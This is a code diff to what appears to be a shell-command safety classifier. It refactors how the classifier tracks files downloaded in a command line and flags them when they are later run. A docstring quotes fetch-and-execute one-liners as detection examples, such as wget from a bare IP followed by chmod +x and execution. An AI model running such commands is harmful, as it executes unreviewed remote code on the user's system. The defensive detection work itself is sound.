@@ -232,6 +232,7 @@ def _assess_model(
     home = default_home(env, cwd)
     parts: list[Assessment] = []
     written: dict[str, str] = {}
+    fetched: dict[str, tuple[bool, str]] = {}  # files this line downloads: (untrusted source, URL)
     tainted: set[str] = set()
     risky = False
     fleet = _fleet_members(model)
@@ -429,7 +430,7 @@ def _assess_model(
             if name in ("rm", "unlink") else None,
             _user_uploads_removed(facts, subject) if name == "rm" else None,
             _input_clobbered(facts, subject) if inv.redirects else None,
-            _cross_checks(facts, all_facts, written, cwd, env, nesting, prod_ctx, subject),
+            _cross_checks(facts, all_facts, written, fetched, cwd, env, nesting, prod_ctx, subject),
         ]
         for extra in extras:
             if extra is not None:
@@ -2836,6 +2837,7 @@ def _cross_checks(
     facts: Facts,
     all_facts: list[Facts],
     written: dict[str, str],
+    fetched: dict[str, tuple[bool, str]],
     cwd: str | None,
     env: dict[str, str],
     nesting: int,
@@ -2916,12 +2918,11 @@ def _cross_checks(
         inner = _classify(each, facts.cwd, env, nesting + 1, prod_ctx)
         if inner.danger_level > DangerLevel.SAFE:
             return _relabel(inner, "compound.stdin-commands", "runs the commands it reads: ", subject)
-    fetched = _downloaded_then_run(facts, written, subject) if written else None
-    if fetched is not None:
-        return fetched
-    _record_download(facts, written)
-    literal = {k: v for k, v in written.items() if not v.startswith(_DOWNLOADED)}
-    used = _written_then_used(facts, literal) if literal else None
+    run_unread = _downloaded_then_run(facts, fetched, subject) if fetched else None
+    if run_unread is not None:
+        return run_unread
+    _record_download(facts, fetched)
+    used = _written_then_used(facts, written) if written else None
     if used is not None:
         equivalent, script = used
         inner = _classify(equivalent, cwd, env, nesting + 1, prod_ctx)
@@ -3215,13 +3216,11 @@ def _as_self_calling(content: str, path: str) -> str:
     return f"__script_self() {{\n{body}\n}}; __script_self"
 
 
-# A file this line downloads (`curl -o`, `wget -O`): its content is the network's, unseen. Recorded in
-# the line's written files under this mark, with whether the source is untrusted and the URL.
-_DOWNLOADED = "\0downloaded\0"
+# Programs that download to a file (`curl -o`, `wget -O`): its content is the network's, unseen.
 _DOWNLOADERS = frozenset({"curl", "wget", "aria2c", "fetch", "http", "https", "xh", "lwp-download"})
 
 
-def _record_download(facts: Facts, written: dict[str, str]) -> None:
+def _record_download(facts: Facts, fetched: dict[str, tuple[bool, str]]) -> None:
     if facts.name not in _DOWNLOADERS:
         return
     url = next((a for a in facts.inv.args if "://" in a), "")
@@ -3229,11 +3228,12 @@ def _record_download(facts: Facts, written: dict[str, str]) -> None:
     if url and {"-O", "--remote-name"} & facts.parsed.flags and facts.name == "curl":
         targets.append(facts.path(posixpath.basename(url.split("?", 1)[0].rstrip("/"))).path)
     for target in targets:
-        if target and len(written) < 256:
-            written[target] = f"{_DOWNLOADED}{int(_untrusted_fetch(facts))}\0{url}"
+        if target and len(fetched) < 256:
+            fetched[target] = (_untrusted_fetch(facts), url)
 
 
-def _downloaded_then_run(facts: Facts, written: Mapping[str, str], subject: str) -> Assessment | None:
+def _downloaded_then_run(facts: Facts, fetched: Mapping[str, tuple[bool, str]], subject: str
+                         ) -> Assessment | None:
     """`wget -qO /tmp/.x http://IP/k && chmod +x /tmp/.x && /tmp/.x`, `curl -o i.sh URL; sh i.sh`:
     a file fetched in this line and then run is code from the network run unseen, as `curl … | sh`
     is: a pause, and a stop when it comes from a bare IP, a URL shortener or plain http."""
@@ -3241,11 +3241,10 @@ def _downloaded_then_run(facts: Facts, written: Mapping[str, str], subject: str)
     family = interpreter_family(facts.name)
     if script is None and family in _INLINE_FLAG and facts.parsed.positionals:
         script = classify_path(facts.parsed.positionals[0], facts.cwd, facts.home, facts.env).path
-    mark = written.get(script or "", "")
-    if not mark.startswith(_DOWNLOADED):
+    if script not in fetched:
         return None
-    untrusted, _, url = mark[len(_DOWNLOADED):].partition("\0")
-    level = DangerLevel.FORBIDDEN if untrusted == "1" else DangerLevel.DESTRUCTIVE
+    untrusted, url = fetched[script]
+    level = DangerLevel.FORBIDDEN if untrusted else DangerLevel.DESTRUCTIVE
     return assess(
         level, kind="command", subject=subject, irreversible=level == DangerLevel.FORBIDDEN,
         factors=(f"runs {script}, which this line just downloaded ({url[:80] or 'a URL'}): remote code "
